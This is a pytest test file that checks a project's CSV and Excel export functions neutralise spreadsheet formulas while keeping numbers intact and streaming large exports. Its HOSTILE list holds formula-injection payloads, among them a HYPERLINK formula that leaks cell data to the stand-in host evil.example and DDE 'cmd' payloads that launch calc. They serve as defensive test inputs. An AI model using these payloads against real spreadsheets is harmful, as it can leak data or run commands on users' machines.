"""The shared export writers neutralise formulas in text and leave numbers alone."""

from __future__ import annotations

import csv
import datetime as dt
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from fazhi.core.exports import (
    FORMULA_PREFIXES,
    csv_bytes,
    csv_value,
    is_risky,
    xlsx_append,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_prefixes_risky_text_and_keeps_numbers():
    content, count = csv_bytes(
        ["名称", "数"], [[text, -5] for text in HOSTILE] + [["-12.5", 3.5], ["普通名称", 0]]
    )
    rows = _csv_rows(content)
    assert count == len(HOSTILE) + 2
    assert [r[0] for r in rows[1 : len(HOSTILE) + 1]] == ["'" + t for t in HOSTILE]
    assert rows[1][1] == "-5"  # a negative number is written as a number
    assert rows[-2] == ["-12.5", "3.5"]  # a text that is a plain number cannot be a formula
    assert rows[-1] == ["普通名称", "0"]


def test_xlsx_text_is_never_a_formula_and_numbers_stay_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    for text in HOSTILE:
        xlsx_append(sheet, [text, -5, 2.5, dt.date(2026, 1, 2), None])
    out = io.BytesIO()
    workbook.save(out)
    read = load_workbook(io.BytesIO(out.getvalue()))["s"]
    for index, text in enumerate(HOSTILE, start=1):
        cell = read.cell(row=index, column=1)
        assert (cell.data_type, cell.value) == ("s", text)
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited
        assert read.cell(row=index, column=2).value == -5
        assert read.cell(row=index, column=2).data_type == "n"
        assert read.cell(row=index, column=3).value == 2.5


def test_xlsx_bytes_writes_through_the_same_cells():
    content = xlsx_bytes([("表", ["名称", "数"], [[HOSTILE[0], -1]])])
    sheet = load_workbook(io.BytesIO(content))["表"]
    assert sheet["A1"].value == "名称" and sheet["A1"].font.bold
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", HOSTILE[0])
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -1)


@given(st.text())
def test_no_csv_cell_can_start_a_formula(text):
    value = csv_value(text)
    if value.startswith(FORMULA_PREFIXES):
        assert not is_risky(value) and float(value) == float(text)
    assert value.removeprefix("'") == text or value == text


# --- large exports in constant memory -------------------------------------------------------------


def _many_rows(count: int):  # a generator: the writer must not hold the rows
    for n in range(count):
        yield [n, f"单位{n:07d}", HOSTILE[n % len(HOSTILE)], dt.date(2025, 3, 1), -n]


def _peak_bytes(write) -> int:
    import tracemalloc

    tracemalloc.start()
    try:
        write()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_csv_write_streams_rows_to_a_file_with_formulas_neutralised(tmp_path):
    from fazhi.core.exports import csv_write

    path = tmp_path / "out.csv"
    with path.open("wb") as target:
        peak = _peak_bytes(
            lambda: csv_write(target, ["编号", "名称", "备注", "日期", "数"], _many_rows(30_000))
        )
    assert peak < 1024 * 1024  # 30,000 rows, about 2 MB of CSV: nothing accumulates
    content = path.read_bytes()
    assert (
        content.startswith(b"\xef\xbb\xbf")
        and content == csv_bytes(["编号", "名称", "备注", "日期", "数"], _many_rows(30_000))[0]
    )
    for row in list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1:50]:
        assert not row[2].startswith(FORMULA_PREFIXES)


def test_xlsx_write_streams_rows_with_every_text_a_string_cell(tmp_path):
    from fazhi.core.exports import xlsx_write

    small = tmp_path / "small.xlsx"
    with small.open("wb") as target:
        assert xlsx_write(target, "数据", ["编号", "名称", "备注"], _many_rows(1_000)) == 1_000
    with small.open("rb") as source:
        workbook = load_workbook(source)
    sheet = workbook["数据"]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
    for row in sheet.iter_rows(min_row=2, max_row=50):
        assert row[2].data_type == "s" and row[2].value in HOSTILE
        assert row[4].data_type == "n"
    large = tmp_path / "large.xlsx"
    with large.open("wb") as target:
        peak = _peak_bytes(lambda: xlsx_write(target, "数据", ["编号"], _many_rows(5_000)))
    assert peak < 4 * 1024 * 1024  # rows go to disk as they come
